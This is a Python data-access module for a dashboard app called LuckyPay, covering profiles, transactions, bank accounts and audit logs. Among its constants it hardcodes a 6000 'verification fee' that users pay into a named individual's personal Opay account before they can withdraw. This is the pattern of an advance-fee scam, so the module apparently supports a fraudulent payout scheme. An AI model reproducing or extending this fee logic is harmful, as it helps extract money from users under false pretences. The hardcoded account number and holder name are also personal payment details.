"""
Client Data-Access Layer

The calls the dashboard makes on behalf of a signed-in identity. Every
statement runs as that identity, so row-level security scopes reads and
writes to the caller's own rows. Database failures are wrapped in
DataAccessError for the presentation layer.
"""

import logging
from contextlib import contextmanager
from decimal import Decimal
from typing import Any, List, Optional

from .database import Database
from .errors import DatabaseError, DataAccessError
from .logging_config import log_action
from .models import (
    Profile, Transaction, TransactionType, TransactionStatus, BankAccount,
    AuditLogEntry
)
from .schema import PROFILES, TRANSACTIONS, BANK_ACCOUNTS, AUDIT_LOGS
from .security import identity_context


logger = logging.getLogger(__name__)

VERIFICATION_FEE = Decimal("6000")
VERIFICATION_ACCOUNT = "9163110673"
VERIFICATION_ACCOUNT_NAME = "Abdullahi"
VERIFICATION_BANK = "Opay"
VERIFICATION_DESCRIPTION = "Account verification payment to enable withdrawals"

RECENT_TRANSACTIONS_LIMIT = 10

BANK_ACCOUNT_FIELDS = ("account_number", "account_name", "bank_name", "bank_code", "is_primary")


class LuckyPayClient:
    """
    Data access for one dashboard session.
    
    ``profile`` holds the most recently fetched profile for display.
    """
    
    def __init__(self, database: Database):
        self.database = database
        self.profile: Optional[Profile] = None
    
    @contextmanager
    def _as_caller(self, identity_id: str, action: str, resource: str):
        with identity_context(identity_id):
            try:
                yield
            except DatabaseError as e:
                log_action(logger, "error", f"{action} failed: {e.message}",
                           user_id=identity_id, action=action, resource=resource)
                raise DataAccessError(e.message, e) from e
    
    # Profile
    
    def get_profile(self, identity_id: str) -> Optional[Profile]:
        """Read the caller's profile; None when it is not visible"""
        with self._as_caller(identity_id, "get_profile", PROFILES):
            row = self.database.select_one(PROFILES, {"id": identity_id})
        self.profile = Profile.from_row(row) if row else None
        return self.profile
    
    def refresh_profile(self, identity_id: str) -> Optional[Profile]:
        return self.get_profile(identity_id)
    
    # Transactions
    
    def list_recent_transactions(self, identity_id: str) -> List[Transaction]:
        """The caller's ten newest transactions, newest first"""
        with self._as_caller(identity_id, "list_recent_transactions", TRANSACTIONS):
            rows = self.database.select(
                TRANSACTIONS,
                {"user_id": identity_id},
                order_by="created_at",
                descending=True,
                limit=RECENT_TRANSACTIONS_LIMIT
            )
        return [Transaction.from_row(row) for row in rows]
    
    def create_verification_payment(self, identity_id: str) -> str:
        """Record a pending verification payment and return its id"""
        with self._as_caller(identity_id, "create_verification_payment", TRANSACTIONS):
            row = self.database.insert(TRANSACTIONS, {
                "user_id": identity_id,
                "type": TransactionType.VERIFICATION_PAYMENT,
                "amount": VERIFICATION_FEE,
                "recipient_account": VERIFICATION_ACCOUNT,
                "recipient_name": VERIFICATION_ACCOUNT_NAME,
                "recipient_bank": VERIFICATION_BANK,
                "status": TransactionStatus.PENDING,
                "description": VERIFICATION_DESCRIPTION,
            })
        
        log_action(logger, "info", "Verification payment created", user_id=identity_id,
                   action="create_verification_payment", resource=TRANSACTIONS,
                   extra={"transaction_id": row["id"], "amount": str(VERIFICATION_FEE)})
        return row["id"]
    
    def delete_transaction(self, identity_id: str, transaction_id: str) -> bool:
        with self._as_caller(identity_id, "delete_transaction", TRANSACTIONS):
            deleted = self.database.delete(TRANSACTIONS, {"id": transaction_id})
        return deleted > 0
    
    # Bank accounts
    
    def list_bank_accounts(self, identity_id: str) -> List[BankAccount]:
        with self._as_caller(identity_id, "list_bank_accounts", BANK_ACCOUNTS):
            rows = self.database.select(
                BANK_ACCOUNTS, {"user_id": identity_id}, order_by="created_at"
            )
        return [BankAccount.from_row(row) for row in rows]
    
    def add_bank_account(
        self,
        identity_id: str,
        account_number: str,
        account_name: str,
        bank_name: str,
        bank_code: Optional[str] = None,
        is_primary: bool = False
    ) -> BankAccount:
        with self._as_caller(identity_id, "add_bank_account", BANK_ACCOUNTS):
            row = self.database.insert(BANK_ACCOUNTS, {
                "user_id": identity_id,
                "account_number": account_number,
                "account_name": account_name,
                "bank_name": bank_name,
                "bank_code": bank_code,
                "is_primary": is_primary,
            })
        
        log_action(logger, "info", "Bank account linked", user_id=identity_id,
                   action="add_bank_account", resource=BANK_ACCOUNTS,
                   extra={"bank_account_id": row["id"]})
        return BankAccount.from_row(row)
    
    def update_bank_account(self, identity_id: str, account_id: str,
                            **changes: Any) -> Optional[BankAccount]:
        """Update the caller's bank account; None when no such account is visible"""
        unknown = set(changes) - set(BANK_ACCOUNT_FIELDS)
        if unknown:
            raise DataAccessError(f"Cannot update fields: {', '.join(sorted(unknown))}")
        
        with self._as_caller(identity_id, "update_bank_account", BANK_ACCOUNTS):
            rows = self.database.update(BANK_ACCOUNTS, {"id": account_id}, changes)
        return BankAccount.from_row(rows[0]) if rows else None
    
    def remove_bank_account(self, identity_id: str, account_id: str) -> bool:
        with self._as_caller(identity_id, "remove_bank_account", BANK_ACCOUNTS):
            deleted = self.database.delete(BANK_ACCOUNTS, {"id": account_id})
        return deleted > 0
    
    # Audit logs
    
    def list_audit_logs(self, identity_id: str, limit: int = 50) -> List[AuditLogEntry]:
        with self._as_caller(identity_id, "list_audit_logs", AUDIT_LOGS):
            rows = self.database.select(
                AUDIT_LOGS, {"user_id": identity_id},
                order_by="created_at", descending=True, limit=limit
            )
        return [AuditLogEntry.from_row(row) for row in rows]
